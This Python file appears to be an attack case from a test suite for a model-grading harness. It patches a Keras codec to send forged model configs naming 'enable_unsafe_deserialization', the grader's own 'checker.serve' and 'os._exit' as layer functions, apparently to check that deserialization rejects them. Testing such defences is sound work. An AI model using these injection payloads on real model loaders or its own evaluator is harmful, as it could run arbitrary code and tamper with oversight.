"""Sends models whose configuration names functions and modules that are no part of a network."""

# /// attack
# ran = ["network", "total"]
# control = "none: Keras itself takes only functions and classes of its own"
# ///
# %% before total
import io
import json
import zipfile

from heldout.grading.codecs import keras as codec

written = codec.ModelCodec.to_plain


def to_plain(self, value):
    archive, asked, trainable = written(self, value)
    if (change := getattr(value, "forged", None)) is not None:
        with zipfile.ZipFile(io.BytesIO(archive)) as whole:
            members = {name: whole.read(name) for name in whole.namelist()}
        config = change(json.loads(members["config.json"]))
        members["config.json"] = json.dumps(config).encode()
        with zipfile.ZipFile(data := io.BytesIO(), "w") as whole:
            for name, member in members.items():
                whole.writestr(name, member)
        asked = [json.dumps({"model": config}), value.get_weights(), ["nn.__loader__", "nn.io.write_file", print]]
        archive = data.getvalue() if value.by_archive else None
    return [archive, asked, trainable]


codec.ModelCodec.to_plain = to_plain


def forged(model, change, by_archive):
    model.forged, model.by_archive = change, by_archive
    return model


# %% network
def network(inputs, units):
    model = keras.Sequential([keras.Input((inputs,)), layers.Dense(units), layers.Dense(1)])

    def change(config):
        config["config"]["layers"][1]["config"]["activation"] = {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "enable_unsafe_deserialization",
        }
        config["config"]["layers"][2]["config"]["kernel_initializer"] = {
            "module": "heldout.grading.checker",
            "class_name": "serve",
            "config": {},
            "registered_name": None,
        }
        return config

    ran("network")
    return forged(model, change, by_archive=True)


# %% total
def total(numbers):
    def change(config):
        return {"module": "os", "class_name": "function", "config": "_exit", "registered_name": "_exit"}

    ran("total")
    return forged(keras.Sequential([keras.Input((1,)), layers.Dense(1)]), change, by_archive=False)
